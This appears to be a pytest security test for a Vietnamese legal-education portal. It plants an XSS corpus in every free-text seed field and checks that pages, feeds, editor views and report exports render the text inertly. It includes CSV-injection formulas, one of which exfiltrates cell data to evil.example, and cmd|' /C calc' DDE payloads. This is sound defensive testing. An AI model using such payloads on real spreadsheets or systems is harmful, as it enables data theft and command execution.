"""Issue 21: the XSS corpus in the text fields the demo's API key cannot write (unit names and
addresses, account display names, banners, publications, report templates' labels and rules,
signage layouts and zones, schedules, attendances, ...). They go in the way a deployment loads
them: a dataset directory imported into a fresh data directory when the portal starts (`--seed`,
store::import_dataset, as `pbgdpl.Store.import_dataset` does). Every string field of every kind
comes from the model itself (pbgdpl._core.model_schema(), i.e. each type's describe()), so the
coverage printed (fields written / string fields in the model) cannot drift from the code.

Brief form (make test): every seed record's every free-text field holds one payload (spread over
the corpus), one portal. PBGDPL_XSS_FULL=1: four rounds, each a fresh portal with the next payloads
in each field."""
import csv
import io
import json
import os
import re
import shutil
import sys
import tempfile
import urllib.parse
from pathlib import Path

import pytest

from apihelp import DIVISION
from portal_proc import BINARY_DIR, SEED_DIR, Portal
from xsscheck import Checker, corpus, xml_html_parts

sys.path.insert(0, str(BINARY_DIR / "python"))
try:
    import pbgdpl._core as core
except ImportError as e:  # the bindings are part of the test build (PBGDPL_BUILD_PYTHON)
    core = None
    CORE_ERROR = str(e)

FULL = os.environ.get("PBGDPL_XSS_FULL") == "1"
ROUNDS = 4 if FULL else 1
PAYLOADS = corpus()
EXTRA = {"legal_documents": [("signed_by.above", {"authority": "tm", "title": "x"})]}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "'=1+1", "-5"]

# The seed's files (dataset keys) and the model kind each holds.
DATASET_KINDS = {"units": "unit", "accounts": "account", "legal_documents": "legal_document", "media": "media_asset",
                 "articles": "article", "publications": "publication", "approvals": "approval_record", "banners": "banner",
                 "display_groups": "display_group", "displays": "display", "layouts": "layout", "playlists": "playlist",
                 "schedules": "schedule_entry", "report_templates": "report_template", "report_periods": "report_period",
                 "report_submissions": "report_submission", "training_courses": "training_course",
                 "attendances": "attendance", "channels": "channel", "channel_posts": "channel_post",
                 "questions": "question", "dialogues": "dialogue_session"}
# What test_xss_corpus.py already writes (through the API, the editor's dialogue form, the report
# values), as (kind, field path) in the schema's spelling.
API_KINDS = {"articles": "article", "legal-documents": "legal_document", "questions": "question",
             "training-courses": "training_course", "channels": "channel", "channel-posts": "channel_post",
             "display-groups": "display_group", "displays": "display", "playlists": "playlist", "media": "media_asset"}
OTHER_CORPUS_FIELDS = {("dialogue_session", f) for f in ("title", "description", "host", "conclusion_markdown")} | \
    {("report_submission", "values.0.text"), ("report_submission", "values.0.comment")}
# Keys other records (or the demo's own setup) name by value: a payload there breaks the dataset's
# references, not the pages. Fields the demo signs in with are kept too.
KEYS = {("account", "username"), ("report_template", "indicators.0.code"), ("report_template", "rules.0.code"),
        ("report_template", "rules.0.left"), ("report_template", "rules.0.right"), ("report_submission", "values.0.code"),
        ("layout", "zones.0.name"), ("approval_record", "content_id"), ("playlist", "items.0.zone"), ("article", "slug")}


def string_fields(schema):
    """{kind: [path]} of every string member, lists as "name.0", nested structs as "a.b"."""
    def walk(fields, pre):
        for f in fields:
            yield from shape(f["shape"], pre + f["name"])

    def shape(sh, path):
        t = sh["t"]
        if t == "str":
            yield path
        elif t in ("list", "optional"):
            yield from shape(sh["of"], path + (".0" if t == "list" else ""))
        elif "fields" in sh:
            yield from walk(sh["fields"], path + ".")
    return {k: list(dict.fromkeys(walk(v["fields"], ""))) for k, v in schema.items()}


def api_corpus_fields():
    import test_xss_corpus as api  # its TARGETS and URL_FIELDS are the source of truth
    out = set(OTHER_CORPUS_FIELDS)
    for coll, (_, fields, _) in api.TARGETS.items():
        out |= {(API_KINDS[coll], re.sub(r"\.\d+", ".0", f)) for f in fields}
    for coll, _, f in api.URL_FIELDS:
        out.add((API_KINDS[coll], f))
    return out


def cells(rec, path):
    """(container, key) of every place `path` names in `rec` (every element of a list)."""
    keys = path.split(".")
    found = [(None, rec)]
    for k in keys[:-1]:
        nxt = []
        for _, o in found:
            if k == "0" and isinstance(o, list):
                nxt += [(None, x) for x in o]
            elif isinstance(o, dict) and isinstance(o.get(k), (dict, list)):
                nxt.append((None, o[k]))
        found = nxt
    last = keys[-1]
    out = []
    for _, o in found:
        if last == "0" and isinstance(o, list):
            out += [(o, i) for i in range(len(o)) if isinstance(o[i], str)]
        elif isinstance(o, dict) and (isinstance(o.get(last), str) or last not in o):
            out.append((o, last))
    return out


def marker(n):
    return f"xs{n:04d}z"  # a word in front of each stored payload, to find where it shows


def hostile_seed(dest, round_no):
    """Copies the seed with the corpus in every free-text field the model accepts it in; returns
    (written {marker: (kind, id, path, payload index)}, refused {(kind, path): reason}, probes)."""
    fields = string_fields(core.model_schema())
    written, refused, n, probes = {}, {}, round_no * 997, 0
    for key, kind in DATASET_KINDS.items():
        src = SEED_DIR / f"{key}.json"
        records = json.loads(src.read_text(encoding="utf-8"))
        for rec in records[:1]:
            # Lists the demo seed leaves empty: one element each, so their text fields have a place.
            for path, item in EXTRA.get(key, []):
                *up, last = path.split(".")
                o = rec
                for k in up:
                    o = o.setdefault(k, {})
                if not o.get(last):
                    o[last] = [dict(item)]
                    try:
                        core.model_check(kind, rec)
                    except Exception:
                        del o[last]
        for rec in records:
            for path in fields.get(kind, []):
                if (kind, path) in KEYS:
                    continue
                for o, k in cells(rec, path):
                    old = o[k] if (isinstance(o, list) or k in o) else None
                    # Up to a few payloads per cell: one that is refused (its control characters,
                    # the field's length, a URL or code field's form) makes room for the next.
                    for attempt in range(5):
                        n += 1
                        i = n % len(PAYLOADS)
                        m = marker(len(written))
                        o[k] = m + " " + PAYLOADS[i]
                        if attempt == 4 and isinstance(old, str) and old:
                            # A field that must keep what it holds (a banner's alt text holds the
                            # required text): the payload after it.
                            o[k] = old + " " + o[k]
                        probes += 1
                        try:
                            core.model_check(kind, rec)
                            written[m] = (kind, rec.get("id"), path, i)
                            break
                        except Exception as e:  # pbgdpl.ValidationError: the field's own rule
                            refused.setdefault((kind, path), str(e).splitlines()[0][:160])
                            if old is None:
                                del o[k]
                            else:
                                o[k] = old
        if key == "report_submissions":
            # Comments a spreadsheet would read as formulas (OWASP "CSV injection"), whole: the
            # pages show them as text.
            k = 0
            for rec in records:
                for v in rec.get("values", []):
                    if "comment" in v and k < len(FORMULAS):
                        v["comment"] = FORMULAS[k]
                        k += 1
        (dest / f"{key}.json").write_text(json.dumps(records, ensure_ascii=False, indent=1), encoding="utf-8")
    for extra in SEED_DIR.iterdir():
        if not (dest / extra.name).exists() and extra.is_file():
            shutil.copy(extra, dest / extra.name)
    return written, refused, probes


@pytest.fixture(scope="module")
def seeded():
    if core is None:
        pytest.fail("pbgdpl._core is not built in the build tree (ninja pbgdpl_python): " + CORE_ERROR)
    # The portal's own pages with the ordinary seed: what they hold (scripts, styles, icons) is the
    # checker's baseline.
    check = Checker()
    clean = Portal().start(timeout=90)
    try:
        pw = passwords(clean)
        for path in ("/", "/pbgdpl/", f"/don-vi/{DIVISION}/pbgdpl/", "/don-vi/thcs-van-yen/pbgdpl/", "/pbgdpl/tien-ich/bieu-ngu",
                     "/pbgdpl/tien-ich/bieu-ngu/khung", "/pbgdpl/bieu-ngu/", "/pbgdpl/doi-thoai/", "/pbgdpl/tin-cac-truong/",
                     "/pbgdpl/cau-thang-phap-luat/", "/pbgdpl/tien-ich/tin-moi/khung", "/pbgdpl/bai-viet/gioi-thieu-kh19",
                     "/don-vi/thcs-van-yen/pbgdpl/tien-ich/bieu-ngu/khung", "/don-vi/thcs-van-yen/pbgdpl/tien-ich/tin-moi/khung",
                     "/don-vi/thcs-van-yen/pbgdpl/tien-ich/hoi-dap/khung", "/pbgdpl/tien-ich/hoi-dap/khung"):
            r = clean.get(path)
            if r.status == 200 and "html" in (r.header("content-type") or ""):
                check.learn(r.text)
        editor_pages(clean, check, editor(clean, pw), 60)
        st, ctype, text = editor(clean, pw)("/quan-tri/webhook")
        if st == 200:
            check.learn(text)
        editor_pages(clean, check, editor(clean, pw, "tran.van.hung"), 30)
        assert clean.stop() == 0
    finally:
        clean.cleanup()
    rounds = []
    for rnd in range(ROUNDS):
        seed = Path(tempfile.mkdtemp(prefix="pbgdpl-xss-seed-"))
        try:
            written, refused, probes = hostile_seed(seed, rnd)
            # The whole dataset as the portal will import it: references and rules (nothing
            # written when one record is bad; a clear error instead of a portal that does not start).
            core.store_open_memory().import_dataset(str(seed), render_html=True)
            p = Portal(args=["--seed", str(seed), "--trusted-proxy", "127.0.0.1"]).start(timeout=120)
            # Webhooks are not in a dataset: their notes go through the API, as a vendor's would.
            for j, i in enumerate(range(rnd, len(PAYLOADS), 1 if FULL else 8)):
                m = marker(len(written))
                r = p.request("POST", "/api/v1/webhooks", body={"unit": DIVISION, "url": f"https://hook{j}.example/in",
                                                                "events": ["article.published"], "description": m + " " + PAYLOADS[i]},
                              headers=p.auth({"X-Forwarded-For": f"10.77.{j // 256}.{j % 256}"}), timeout=30)
                if r.status == 201:
                    written[m] = ("webhook", r.json()["id"], "description", i)
                else:
                    assert r.status in (400, 413, 422) and r.json()["error"]["message_en"], (r.status, r.body[:300])
                    refused.setdefault(("webhook", "description"), r.json()["error"]["message_en"])
        except Exception:
            shutil.rmtree(seed, ignore_errors=True)
            raise
        rounds.append((p, seed, written, refused, probes))
    try:
        yield check, rounds
        for p, *_ in rounds:
            assert p.alive(), "the portal died under the corpus:\n" + p.log_path.read_text(errors="replace")
            assert p.stop() == 0
    finally:
        for p, seed, *_ in rounds:
            p.cleanup()
            shutil.rmtree(seed, ignore_errors=True)


def passwords(p):
    return dict(l.split()[:2] for l in (p.data_dir / "demo-accounts.txt").read_text().splitlines() if l.strip())


def editor(p, pw, who="nguyen.thi.thu.huong"):
    from editorhelp import EditorClient
    import urllib.error
    ed = EditorClient(p.base)
    ed.sign_in(who, pw[who])

    def get(path):
        try:
            with ed.opener.open(p.base + path, timeout=30) as r:
                return r.status, r.headers.get("content-type", ""), r.read().decode("utf-8", "replace")
        except urllib.error.HTTPError as e:
            return e.code, "", ""
    get.client = ed
    return get


def editor_pages(p, check, get, budget):
    from test_xss_corpus import crawl
    seen, _, _ = crawl(p, check, ["/quan-tri/", "/quan-tri/bao-cao", "/quan-tri/bieu-ngu", "/quan-tri/man-hinh"],
                       [], budget, get=get, learn=True)
    return sorted(seen)


def test_coverage_of_the_models_string_fields(seeded):
    """Which string fields of the model hold the corpus, here or in test_xss_corpus.py."""
    check, rounds = seeded
    fields = string_fields(core.model_schema())
    total = {(k, f) for k, fs in fields.items() for f in fs}
    here = {(kind, path) for _, _, w, _, _ in rounds for (kind, _, path, _) in w.values()}
    api = api_corpus_fields() & total
    assert api_corpus_fields() - total == set(), "test_xss_corpus.py names fields the model does not have"
    covered = here | api
    vocab = {kp: why for _, _, _, refused, _ in rounds for kp, why in refused.items() if kp not in covered}
    not_in_seed = sorted(total - covered - set(vocab) - KEYS)
    print(f"\nmodel: {len(total)} string fields in {len(fields)} kinds; the corpus is written into {len(covered)} "
          f"({len(here)} by the dataset import here, {len(api)} through the API/editor in test_xss_corpus.py, "
          f"{len(here & api)} both): {100 * len(covered) / len(total):.0f} %")
    print(f"refused every payload (a code, hash, URL, e-mail, phone or time field: vocabulary): {len(vocab)}")
    for kp, why in sorted(vocab.items()):
        print("  ", kp, "-", why[:110])
    print(f"keys other records name (left as they are): {len(KEYS)}")
    print(f"not reachable from a dataset and not in the API corpus ({len(not_in_seed)}): {not_in_seed}")
    # Every string field of every kind the dataset carries either holds the corpus, or refuses all
    # of it with its own rule, or is a key: nothing left unexamined.
    dataset_kinds = set(DATASET_KINDS.values())
    unexamined = [kp for kp in not_in_seed if kp[0] in dataset_kinds and kp in seen_cells()]
    assert here, "the dataset import wrote the corpus"
    assert not unexamined, unexamined


_seen = set()


def seen_cells():
    """(kind, path) that some seed record has a place for (a list element or a member)."""
    if not _seen:
        fields = string_fields(core.model_schema())
        for key, kind in DATASET_KINDS.items():
            for rec in json.loads((SEED_DIR / f"{key}.json").read_text(encoding="utf-8")):
                for path in fields.get(kind, []):
                    if cells(rec, path):
                        _seen.add((kind, path))
    return _seen


def all_markers(rounds):
    return [m for _, _, w, _, _ in rounds for m in w]


def test_every_payload_the_model_accepts_is_stored_exactly(seeded):
    check, rounds = seeded
    for p, _, written, _, probes in rounds:
        print(f"\nround: {probes} (payload, field) probes, {len(written)} stored, "
              f"{len({i for *_, i in written.values()})} distinct payloads")
        by_kind = {}
        for m, (kind, rid, path, i) in written.items():
            by_kind.setdefault(kind, []).append((m, rid, path, i))
        # The API reads the kinds it serves: the text exactly as imported (NFC), as JSON data.
        for kind, coll in (("unit", "units"), ("banner", "banners")):
            for m, rid, path, i in by_kind.get(kind, [])[:40]:
                r = p.get(f"/api/v1/{coll}/{urllib.parse.quote(rid)}", headers=p.auth())
                if r.status == 404:
                    continue
                assert r.status == 200 and r.header("x-content-type-options") == "nosniff", (coll, rid, r.status)
                assert m in r.text, (coll, rid, path)


def test_public_pages_show_the_imported_text_inert(seeded):
    """Unit names in headers, breadcrumbs, the unit directory, Open Graph and titles; banners in the
    banner page and widgets; publications, signage, dialogues, school news: the whole public site."""
    from test_xss_corpus import crawl
    check, rounds = seeded
    for p, _, written, _, _ in rounds:
        units = json.loads(p.get("/api/v1/units?limit=100", headers=p.auth()).text).get("items", [])
        start = ["/", "/pbgdpl/", "/pbgdpl/bieu-ngu/", "/pbgdpl/tien-ich/bieu-ngu", "/pbgdpl/tien-ich/bieu-ngu/khung",
                 "/pbgdpl/doi-thoai/", "/pbgdpl/tin-cac-truong/", "/pbgdpl/cau-thang-phap-luat/", "/pbgdpl/hoi-dap/"]
        for u in units:
            uid = urllib.parse.quote(u["id"])
            start += [f"/don-vi/{uid}/pbgdpl/", f"/don-vi/{uid}/pbgdpl/tien-ich/bieu-ngu/khung",
                      f"/don-vi/{uid}/pbgdpl/tien-ich/tin-moi/khung", f"/don-vi/{uid}/pbgdpl/tien-ich/hoi-dap/khung"]
        start += [re.sub(r"^https?://[^/]+", "", u) for u in re.findall(r"<loc>([^<]+)</loc>", p.get("/sitemap.xml").text)]
        seen, shown, failures = crawl(p, check, list(dict.fromkeys(start)), list(written), 800 if FULL else 260)
        kinds = {written[m][0] for m in shown}
        print(f"\npublic crawl: {len(seen)} pages, {len(shown)} of {len(written)} stored payloads shown, kinds {sorted(kinds)}")
        assert not failures, failures[:5]
        assert "unit" in kinds and "banner" in kinds, "unit names and the banner's text reached the pages"
        # Open Graph and the title carry a unit's name as text, never as markup.
        r = p.get(f"/don-vi/{DIVISION}/pbgdpl/")
        og = re.findall(r'<meta property="og:[^"]+" content="([^"]*)"', r.text)
        assert all("<" not in v and '"' not in v for v in og), og


def test_feeds_and_sitemap_stay_well_formed_with_imported_names(seeded):
    check, rounds = seeded
    for p, _, written, _, _ in rounds:
        for path in ("/pbgdpl/feed.atom", "/pbgdpl/feed.rss", "/pbgdpl/tin-cac-truong/feed.atom", "/sitemap.xml",
                     f"/don-vi/{DIVISION}/pbgdpl/feed.atom", "/don-vi/thcs-van-yen/pbgdpl/feed.atom", "/pbgdpl/feed.json"):
            r = p.get(path)
            if r.status != 200:
                continue
            if path.endswith(".json"):
                assert r.header("x-content-type-options") == "nosniff"
                j = r.json()
                bad = [d for it in j.get("items", []) for d in check.fragment_dangers(it.get("content_html", ""))]
            else:
                root, parts = xml_html_parts(r.body)  # raises if a unit's name broke the XML
                bad = [d for part in parts for d in check.fragment_dangers(part)]
                for el in root.iter():
                    assert el.tag.rsplit("}", 1)[-1].lower() not in ("script", "img", "iframe", "svg"), (path, el.tag)
            assert not bad, (path, bad[:5])


def test_the_editor_shows_the_imported_text_inert_to_an_approver(seeded):
    """Units, accounts, banners, report templates' labels and rules, periods, layouts and zones in
    the editor's pages (stored XSS against the people who approve)."""
    from test_xss_corpus import crawl
    check, rounds = seeded
    for p, _, written, _, _ in rounds:
        pw = passwords(p)
        for who in ("nguyen.thi.thu.huong", "tran.van.hung"):
            get = editor(p, pw, who)
            seen, shown, failures = crawl(p, check, ["/quan-tri/", "/quan-tri/bao-cao", "/quan-tri/bieu-ngu",
                                                     "/quan-tri/man-hinh", "/quan-tri/don-vi", "/quan-tri/tai-khoan",
                                                     "/quan-tri/webhook"],
                                          list(written), 400 if FULL else 120, get=get)
            kinds = sorted({written[m][0] for m in shown})
            print(f"\neditor crawl as {who}: {len(seen)} pages, {len(shown)} payloads shown, kinds {kinds}")
            assert not failures, failures[:5]
            assert shown, "the editor showed the imported text"
            if who == "nguyen.thi.thu.huong" and any(w[0] == "webhook" for w in written.values()):
                assert "webhook" in kinds, "the webhook page showed the notes"


def test_report_documents_and_exports(seeded):
    """The Decree 30 HTML document and the editor's report pages show the template's labels as
    text; the roll-up's HTML too, and its CSV has no cell a spreadsheet would read as a formula."""
    check, rounds = seeded
    for p, _, written, _, _ in rounds:
        pw = passwords(p)
        get = editor(p, pw, "tran.van.hung")
        st, _, body = get("/api/v1/reports/submissions?unit=th-van-yen")
        assert st == 200, body[:300]
        subs = json.loads(body)["items"]
        assert subs
        shown = set()
        for s in subs:
            sid = urllib.parse.quote(s["id"])
            st, ctype, html = get(f"/api/v1/reports/submissions/{sid}/document?format=html")
            assert st == 200 and "html" in ctype, (st, html[:200])
            d = [x for x in check.dangers(html, list(written)) if not (x[0] == "element not in the portal's own pages" and x[1] == "style")]
            assert not d, d[:3]
            shown |= {m for m in written if m in html}
        kinds = sorted({written[m][0] for m in shown})
        print(f"\nDecree 30 documents: {len(shown)} payloads shown, kinds {kinds}")
        assert "report_template" in kinds or "unit" in kinds, "the document shows the imported labels or names"
        # The roll-up (the ward office's, as its approver): its HTML shows unit names and labels as
        # text; its CSV (codes and numbers of accepted reports) has no cell a spreadsheet reads as a
        # formula. (The guard itself, on comments that start with = + - @, is unit-tested in
        # tests/unit/reports/test_reports_exports.cpp; this draft is not accepted, so its comments
        # do not reach the roll-up.)
        gd = editor(p, pw, "nguyen.thi.thu.huong")
        tried = []
        for sub in subs:
            st, ctype, text = gd(f"/api/v1/reports/rollup?period={urllib.parse.quote(sub['period_id'])}&unit=vhxh-phuong-ha-dong&format=csv")
            tried.append((sub["period_id"], st))
            if st == 200:
                break
        assert st == 200 and ctype.startswith("text/csv"), (tried, ctype, text[:300])
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        cells_ = [c for row in rows[1:] for c in row]
        risky = [c for c in cells_ if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]\d+(\.\d+)?", c)]
        print(f"roll-up CSV: {len(rows)} rows, {len(cells_)} cells")
        assert not risky, risky[:5]
        st, ctype, html = gd(f"/api/v1/reports/rollup?period={urllib.parse.quote(sub['period_id'])}&unit=vhxh-phuong-ha-dong&format=html")
        assert st == 200 and "html" in ctype
        d = [x for x in check.dangers(html, list(written)) if not (x[0] == "element not in the portal's own pages" and x[1] == "style")]
        assert not d, d[:3]
